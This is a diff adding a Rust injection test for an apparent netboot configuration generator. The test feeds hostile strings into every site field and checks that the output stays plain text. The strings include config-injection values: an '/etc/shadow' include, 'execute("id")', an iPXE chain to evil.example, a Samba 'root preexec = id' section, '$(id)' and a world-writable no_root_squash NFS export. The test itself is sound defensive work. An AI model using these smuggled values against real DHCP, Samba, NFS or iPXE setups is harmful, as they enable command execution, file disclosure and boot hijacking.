@@ -1,1 +1,461 @@
+//! Each free field of a site gets each nasty text: either a finding says where, or every file is what
+//! it is with a plain text there, but for the text, which a small reader of the daemon's own
+//! language reads back.
 
+use std::collections::BTreeMap;
+use std::sync::Mutex;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use ipxegen::outputs::site_view;
+use ipxegen::plan::plan;
+use ipxegen::render::Renderer;
+use ipxegen::report::{self, Format, Report};
+use ipxegen::schema::{self, Texts};
+use ipxegen::source::Sources;
+use ipxegen::tree::Content as _;
+use ipxegen::{resolve, rules};
+
+use crate::support::daemon_grammar::{dhcpd, exports, smb};
+use crate::support::ipxe_script::Script;
+use crate::support::program::run_on;
+
+/// What stands in every file of the site that has `‹field=plain text›` for its fields.
+const SITE: &str = r#"
+name: ‹name=A site›
+domain: ‹domain=example.org›
+servers: { ‹server=boot›: { ip: 10.0.0.2, interfaces: [‹interface=eth0›] } }
+dhcp:
+  domain_search: [‹domain_search=example.org›]
+  options: { nis-domain: ‹option=x›, own: { code: 230, text: ‹own_option=x› }, ‹option_name=other›: { code: 231, u8: 1 } }
+tftp: { root: ‹tftp_root=/srv/tftp›, user: ‹tftp_user=tftp›, address: ‹tftp_address=":69"›, options: [‹tftp_option=--secure›] }
+http: { root: ‹http_root=/srv/www›, tftp_prefix: ‹tftp_prefix=/t›, url: ‹http_url="http://10.0.0.2"›, group: ‹http_group=www-data› }
+nfs:
+  exports_file: ‹exports_file=/etc/exports›
+  exports: [{ path: ‹export=/srv/x›, clients: [‹client=10.0.0.0/24›], options: [‹export_option=ro›] }]
+smb:
+  config_file: ‹smb_file=/etc/samba/smb.conf›
+  workgroup: ‹workgroup=WORKGROUP›
+  shares: { ‹share=x›: { path: ‹share_path=/srv/x›, comment: ‹share_comment=x›, users: [‹share_user=u›], create_mask: ‹mask=0664› } }
+ipxe: { script: ‹script=install.ipxe›, hook: ‹hook=x.ipxe›, scriptlet: ‹scriptlet=x›, syslogs: ‹syslogs=x›, san_filename: ‹san_filename=x›, crosscert: ‹crosscert=x›, trust: ‹trust="00"› }
+loaders: { bios: ‹loader=x›, http_x64: ‹loader_url="http://10.0.0.2/x"› }
+subnets:
+  ‹subnet=lan›: { cidr: ‹cidr=10.0.0.0/24›, ranges: ‹range=10.0.0.100-10.0.0.110›, routers: ‹router=10.0.0.1›, domain: ‹subnet_domain=example.org›, shared_network: ‹shared_network=wire› }
+groups:
+  ‹group=g›: { options: { merit-dump: ‹group_option=x› } }
+hosts:
+  ‹host=h›: { mac: ‹mac="02:00:00:00:00:01"›, ip: ‹ip=10.0.0.21›, host_name: ‹host_name=h›, root_path: ‹root_path="aoe:e0.0"›, group: g }
+  by-nfs: { mac: "02:00:00:00:00:02", ip: 10.0.0.22, root_path: { nfs: { path: ‹nfs_path=/srv/n›, options: [‹nfs_option=tcp›] } } }
+  by-iscsi: { mac: "02:00:00:00:00:03", ip: 10.0.0.23, root_path: { iscsi: { server: 10.0.0.3, target: ‹target="iqn.2020-01.lan:x"›, initiator: ‹initiator="iqn.2020-01.lan:y"›, lun: ‹lun="1"› } } }
+boot_entries:
+  ‹entry=e›: { kind: linux, label: ‹label=x›, key: ‹key=x›, dir: ‹dir=d›, kernel: ‹kernel=k›, initrd: [‹initrd=i›], cmdline: [‹argument=x›] }
+  c: { kind: chain, label: c, url: ‹chain="http://10.0.0.2/x"› }
+  i: { kind: iso, label: i, iso: ‹iso=x.iso› }
+  w: { kind: winpe, label: w, wimboot: ‹wimboot=wimboot›, bcd: ‹bcd=BCD›, arch_dirs: { amd64: ‹arch_dir=amd64› } }
+  u: { kind: casper, label: u, dir: ‹live_dir=live› }
+menu: { title: ‹title=x›, items: [{ gap: ‹gap=x› }, c, i, w, u, { submenu: ‹submenu=s›, title: ‹submenu_title=x›, items: [shell] }] }
+"#;
+
+/// Texts that somebody takes for more than text.
+fn nasty() -> Vec<String> {
+    let mut all: Vec<String> = [
+        "\"",
+        "'",
+        "`",
+        "\\",
+        "\\\\",
+        "}",
+        "{",
+        ";",
+        "#",
+        "|",
+        "&",
+        "%",
+        "*",
+        "?",
+        "~",
+        "=",
+        "-",
+        "--",
+        "<",
+        ">",
+        "!",
+        ",",
+        " ",
+        "  ",
+        "a b",
+        " a ",
+        "a  b",
+        "\t",
+        "\n",
+        "\r\n",
+        "\u{0}",
+        "\u{7}",
+        "\u{1b}[31m",
+        "\u{7f}",
+        "\u{85}",
+        "\u{2028}",
+        "\u{202e}x",
+        "\u{200f}",
+        "\u{feff}",
+        "\u{ff}",
+        "日本",
+        "é",
+        "😀",
+        "x; } include \"/etc/shadow",
+        "\"; } include \"/etc/shadow",
+        "\"; execute(\"id\"); #",
+        "a\nchain http://evil.example/",
+        "a\n}\nhost evil { }",
+        "[evil]",
+        "a\n[evil]\nroot preexec = id",
+        "%U",
+        "%n",
+        "$(id)",
+        "`id`",
+        "$x",
+        "${x}",
+        "${175.224:string}",
+        "$",
+        "$ {",
+        "\\042",
+        "\\x41",
+        "\\0",
+        "a\\",
+        "a\\\n",
+        "/etc/../x",
+        "..",
+        "/",
+        "//",
+        "/a b",
+        "/a\"b",
+        "/a\\040b",
+        "/a\n/ *(rw,no_root_squash)",
+        "*(rw)",
+        "/x *(rw)",
+        "10.0.0.0/24(rw) *",
+        "(rw)",
+        "-x",
+        "--help",
+        ";",
+        "||",
+        "&&",
+        "a ; b",
+        "a || chain http://evil.example/",
+        ":evil",
+        "#!ipxe",
+        "ipxegen.x",
+        "a;b",
+        "<<",
+        "none",
+        "null",
+        "x=y",
+        "x,y",
+        "eth0; reboot",
+        "eth0 eth1",
+        "/srv/$(id)",
+        "/srv/*",
+        "http://x/\" y",
+        "http://x/#y",
+        "http://x/${y}",
+        "\u{1}\u{2}",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    all.push("x".repeat(300));
+    all.push("\"".repeat(70));
+    all.push("日".repeat(600));
+    all.push("/".to_owned() + &"y".repeat(5_000));
+    all
+}
+
+/// The fields of the site with their plain texts.
+fn fields() -> Vec<(&'static str, &'static str)> {
+    let marks = SITE.match_indices('‹').map(|(at, open)| {
+        let rest = &SITE[at + open.len()..];
+        rest[..rest.find('›').unwrap()].split_once('=').unwrap()
+    });
+    marks.collect()
+}
+
+/// The site with a text in one field.
+fn site(field: &str, text: Option<&str>) -> String {
+    let mut out = String::new();
+    let mut rest = SITE;
+    while let Some((before, mark)) = rest.split_once('‹') {
+        let (mark, after) = mark.split_once('›').unwrap();
+        let (name, plain) = mark.split_once('=').unwrap();
+        out += before;
+        match text {
+            Some(text) if name == field => out += &quoted(text),
+            _ => out += plain,
+        }
+        rest = after;
+    }
+    out + rest
+}
+
+/// A text as a double-quoted scalar of YAML.
+fn quoted(text: &str) -> String {
+    let mut out = String::from("\"");
+    for char in text.chars() {
+        match char {
+            '"' | '\\' => out.extend(['\\', char]),
+            char if char.is_control() || !char.is_ascii() => out += &format!("\\U{:08X}", u32::from(char)),
+            char => out.push(char),
+        }
+    }
+    out + "\""
+}
+
+/// All files that were rendered, by what their names end in.
+struct Files(BTreeMap<String, Vec<u8>>);
+
+impl Files {
+    fn bytes(&self, wanted: impl Fn(&str) -> bool) -> &[u8] {
+        self.0.iter().find(|(path, _)| wanted(path)).map(|(_, bytes)| bytes.as_slice()).unwrap()
+    }
+
+    fn dhcpd(&self) -> Vec<dhcpd::Token> {
+        dhcpd::tokens(self.bytes(|path| path.ends_with("dhcpd.conf"))).unwrap()
+    }
+
+    /// The exports and the share file and the script stand where the site says: what begins like one is it.
+    fn text(&self, holds: &str) -> &str {
+        std::str::from_utf8(
+            self.0
+                .values()
+                .find(|bytes| contains(bytes, holds) || bytes.starts_with(holds.as_bytes()))
+                .unwrap(),
+        )
+        .unwrap()
+    }
+
+    fn smb(&self) -> smb::Sections {
+        smb::read(self.text("\n[global]\n")).unwrap()
+    }
+
+    fn exports(&self) -> Vec<exports::Export> {
+        exports::read(self.text("root-path of host by-nfs").as_bytes()).unwrap()
+    }
+
+    fn script(&self) -> Script {
+        Script::read(self.text(":ipxegen.menu\n")).unwrap()
+    }
+
+    fn variable(&self, name: &str) -> Option<String> {
+        let mut lines =
+            self.0.values().filter_map(|bytes| std::str::from_utf8(bytes).ok()).flat_map(str::lines);
+        lines.find_map(|line| {
+            Some(line.strip_prefix(name)?.strip_prefix("=\"")?.strip_suffix('"')?.to_owned())
+        })
+    }
+
+    /// Everything about the files but the texts in them.
+    fn shape(&self) -> Vec<String> {
+        let mut shape = dhcpd::shape(&self.dhcpd());
+        // The name of a declaration is free, what is declared is not.
+        shape.push(self.0.len().to_string());
+        for (name, values) in self.smb() {
+            shape.push(if name == "global" { name } else { "share".to_owned() });
+            shape.extend(values.into_iter().map(|(key, _)| key));
+        }
+        for export in self.exports() {
+            shape.push(format!("export to {}", export.clients.len()));
+        }
+        let script = self.script();
+        assert_eq!(script.faults(), Vec::<String>::new());
+        // What stands for blanks and the like is set where it is used only.
+        let fixed = |words: &[String]| {
+            words.get(1).is_some_and(|name| script.texts.contains_key(name.trim_end_matches(":hex")))
+        };
+        let lines = script.lines.iter().filter(|line| !fixed(&line.words));
+        shape.extend(lines.map(|line| line.words.first().cloned().unwrap_or_default()));
+        for (_, bytes) in
+            self.0.iter().filter(|(path, _)| path.contains("/etc/default/") || path.contains("tmpfiles.d"))
+        {
+            let text = std::str::from_utf8(bytes).unwrap();
+            shape.extend(text.lines().map(|line| line.split(['=', ' ']).next().unwrap().to_owned()));
+        }
+        shape
+    }
+}
+
+fn contains(bytes: &[u8], text: &str) -> bool {
+    bytes.windows(text.len()).any(|window| window == text.as_bytes())
+}
+
+/// What a field's text is where a daemon or the firmware reads it.
+fn read_back(field: &str, files: &Files) -> Option<String> {
+    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
+    let option = |name: &str| dhcpd::after(&files.dhcpd(), &["option", name]).into_iter().next().map(text);
+    let share = || files.smb().into_iter().find(|(name, _)| name != "global").unwrap();
+    let value = |key: &str| share().1.into_iter().find(|(known, _)| known == key).map(|(_, value)| value);
+    let shown = |line: usize, from: usize, command: &[&str]| {
+        let script = files.script();
+        let mut lines = script.lines.iter().filter(|line| {
+            line.words.len() >= command.len()
+                && line.words.iter().zip(command).all(|(word, wanted)| word == wanted)
+        });
+        let words = &lines.nth(line).unwrap().words[from..];
+        // Options end at `--`; what follows is text.
+        let words = if command == ["menu"] && words[0] == "--" { &words[1..] } else { words };
+        Some(script.shown(words))
+    };
+    match field {
+        "option" => option("nis-domain"),
+        "own_option" => option("own"),
+        "group_option" => option("merit-dump"),
+        "domain_search" => option("domain-search"),
+        "subnet_domain" => option("domain-name"),
+        "host_name" => option("host-name"),
+        "scriptlet" => option("ipxe.scriptlet"),
+        "syslogs" => option("ipxe.syslogs"),
+        "san_filename" => option("ipxe.san-filename"),
+        "crosscert" => option("ipxe.crosscert"),
+        "root_path" => option("root-path"),
+        "loader" => {
+            let names = dhcpd::after(&files.dhcpd(), &["filename"]).into_iter().map(text);
+            names.filter(|name| !name.contains("://")).find(|name| name != "ipxe.efi")
+        }
+        "initiator" => option("iscsi-initiator-iqn"),
+        "share" => Some(share().0),
+        "share_path" => value("path"),
+        "share_comment" => value("comment"),
+        "share_user" => value("valid users"),
+        "workgroup" => {
+            files.smb()[0].1.iter().find(|(key, _)| key == "workgroup").map(|(_, value)| value.clone())
+        }
+        "export" => {
+            let given = files.exports().into_iter().filter(|export| export.clients[0].1 == ["ro"]);
+            given.map(|export| text(export.path)).next()
+        }
+        "nfs_path" => {
+            let derived = files.exports().into_iter().find(|export| export.clients[0].1[0] == "rw");
+            derived.map(|export| text(export.path))
+        }
+        "tftp_root" => files.variable("TFTP_DIRECTORY"),
+        "tftp_user" => files.variable("TFTP_USERNAME"),
+        "tftp_address" => files.variable("TFTP_ADDRESS"),
+        "tftp_option" => files.variable("TFTP_OPTIONS"),
+        "interface" => files.variable("INTERFACESv4"),
+        "title" => shown(0, 1, &["menu"]),
+        "submenu_title" => shown(1, 1, &["menu"]),
+        "gap" => shown(0, 3, &["item", "--gap", "--"]),
+        _ => None,
+    }
+}
+
+/// Fields in which `{…}` and iPXE's `${…}` have a meaning.
+const EXPANDED: &[&str] = &["group_option", "host_name", "root_path", "scriptlet", "crosscert"];
+
+#[test]
+fn text_stays_text_in_every_field() {
+    let (fields, nasty) = (fields(), nasty());
+    assert!(fields.len() >= 70, "only {} fields", fields.len());
+    let plain = render(&site("", None));
+    let plain = plain.unwrap_or_else(|report| panic!("the plain site has findings:\n{report}"));
+    let shape = plain.shape();
+    let (next, accepted, compared) = (AtomicUsize::new(0), AtomicUsize::new(0), AtomicUsize::new(0));
+    let wrong = Mutex::new(Vec::new());
+    let work = || {
+        while let Some((field, _)) = fields.get(next.fetch_add(1, Ordering::Relaxed)) {
+            for text in &nasty {
+                let say = |what: String| wrong.lock().unwrap().push(format!("{field} = {text:.60?}: {what}"));
+                match render(&site(field, Some(text))) {
+                    Ok(files) => {
+                        accepted.fetch_add(1, Ordering::Relaxed);
+                        // `none` unsets, and names of what is there make it be there.
+                        let means = ["none", "null", "/"].contains(&text.as_str())
+                            || (*field == "client" && text == "*");
+                        let same = std::panic::catch_unwind(|| files.shape()).map(|got| got == shape);
+                        if !matches!(same, Ok(true)) && !means {
+                            say("other statements than with a plain text".to_owned());
+                            continue;
+                        }
+                        let expanded = EXPANDED.contains(field) && text.contains(['{', '}']);
+                        if means || expanded {
+                            continue;
+                        }
+                        let wanted = match *field {
+                            "host_name" => text.to_lowercase(),
+                            _ => text.clone(),
+                        };
+                        if let Some(read) = read_back(field, &files) {
+                            compared.fetch_add(1, Ordering::Relaxed);
+                            // A path's final slash goes, and a loader's first one.
+                            let bare = |text: &str| text.trim_matches('/').to_owned();
+                            if read != wanted && (!wanted.contains('/') || bare(&read) != bare(&wanted)) {
+                                say(format!("reads back as {read:.60?}"));
+                            }
+                        }
+                    }
+                    Err(report) => {
+                        let placed = report.contains("--> <stdin>:");
+                        let quiet = report.chars().all(|char| !char.is_control() || char == '\n');
+                        if !report.contains("error[") || !placed || !quiet {
+                            say(format!("{report:.500}"));
+                        }
+                    }
+                }
+            }
+        }
+    };
+    std::thread::scope(|scope| {
+        for worker in [scope.spawn(work), scope.spawn(work)] {
+            worker.join().unwrap();
+        }
+    });
+    let wrong = wrong.into_inner().unwrap();
+    assert!(wrong.is_empty(), "{} are wrong:\n{}", wrong.len(), wrong.join("\n"));
+    let (accepted, compared) = (accepted.into_inner(), compared.into_inner());
+    assert!(accepted > 600 && compared > 300, "{accepted} accepted, {compared} of them read back");
+}
+
+/// Bytes that are no UTF-8 never get that far.
+#[test]
+fn bytes_that_are_no_text_are_refused_in_every_field() {
+    for (field, _) in fields() {
+        for bytes in [&b"\xff"[..], b"caf\xe9"] {
+            let (before, after) = {
+                let text = site(field, Some("MARK"));
+                let (before, after) = text.split_once("MARK").unwrap();
+                (before.to_owned(), after.to_owned())
+            };
+            let text = [before.as_bytes(), bytes, after.as_bytes()].concat();
+            run_on(&text, &["show", "-"]).ended(1).says("error[not-utf8]: ");
+        }
+    }
+}
+
+/// Renders a site in this process; what stands in the way as it is printed.
+fn render(site: &str) -> Result<Files, String> {
+    let sources = Sources::new();
+    let file = sources.add("<stdin>", site).unwrap();
+    let mut report = Report::new();
+    let texts = Texts { files: vec![file], with: Vec::new() };
+    let written = schema::read(&sources, &texts, &mut report);
+    let printed = |report: &Report| {
+        let mut out = Vec::new();
+        report::print(report, &sources, Format::Human, false, &[], &mut out).unwrap();
+        String::from_utf8(out).unwrap()
+    };
+    if report.stops() {
+        return Err(printed(&report));
+    }
+    let site = resolve::resolve(written, "standard input", &sources, &mut report);
+    rules::run(&site, &mut report);
+    let plan = plan(&site, &mut report);
+    if report.has_errors() {
+        return Err(printed(&report));
+    }
+    let renderer = Renderer::new(&[], tera::Value::from_serializable(&site_view(&site)), &mut report);
+    let mut files = BTreeMap::new();
+    for planned in &plan.files {
+        let mut bytes = Vec::new();
+        if let Err(error) = renderer.file(planned.output, &planned.file).write_to(&mut bytes) {
+            return Err(format!("a template of ours fails: {error:#}"));
+        }
+        files.insert(format!("/{}{}", planned.entry.server, planned.entry.path), bytes);
+    }
+    Ok(Files(files))
+}
